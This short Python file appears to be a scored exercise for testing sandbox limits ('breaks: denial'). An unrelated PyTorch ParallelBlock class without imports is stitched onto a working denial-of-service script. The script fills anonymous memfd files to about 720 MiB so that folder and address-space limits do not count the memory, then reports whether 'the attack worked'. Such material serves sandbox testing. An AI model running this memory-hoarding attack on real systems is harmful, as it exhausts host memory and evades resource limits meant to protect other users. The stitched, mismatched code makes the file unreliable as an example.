"""Fills files that stand in no folder (memfd), which no limit on folders or address space counts.

exercise: parallel-block
points: 6
breaks: denial
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os

files, block = [], b"x" * (1 << 20)
try:
    for _ in range(30):
        files.append(os.memfd_create("hoard"))
        for _ in range(24):
            os.write(files[-1], block)
except OSError as error:
    print(error)
held = sum(os.fstat(file).st_size for file in files) >> 20
if held > 640:
    print("the attack worked: it holds", held, "MiB in files without a name")
